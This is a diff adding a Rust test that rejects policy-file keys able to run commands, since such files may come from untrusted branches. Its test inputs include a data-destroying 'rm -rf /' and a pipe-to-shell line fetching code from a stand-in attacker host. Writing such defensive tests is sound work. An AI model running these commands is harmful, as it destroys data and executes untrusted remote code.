@@ -479,3 +479,22 @@ fn docs_policy_example_loads() {
         assert!(doc.contains(table), "docs/policy.md documents {table}");
     }
 }
+
+#[test]
+fn no_setting_can_run_a_command() {
+    // The file may come from an untrusted branch: there is no key that names a program, and
+    // unknown keys are errors rather than silently ignored.
+    for text in [
+        "[hooks]\ncommand = \"rm -rf /\"\n",
+        "command = \"curl evil.example | sh\"\n",
+        "[zones]\nmaintainers-command = \"get_maintainer.pl\"\n",
+        "[[fingerprint]]\ntool = \"t\"\nfield = \"subject\"\npattern = \"x\"\nexec = \"sh\"\n",
+    ] {
+        let e = err(text);
+        assert!(matches!(e.kind, PolicyErrorKind::Syntax(_)), "{text}: {e}");
+    }
+    let shown = Policy::preset("qemu").unwrap().to_toml();
+    for word in ["command", "exec", "script", "hook"] {
+        assert!(!shown.contains(word), "the resolved policy has no `{word}` setting");
+    }
+}
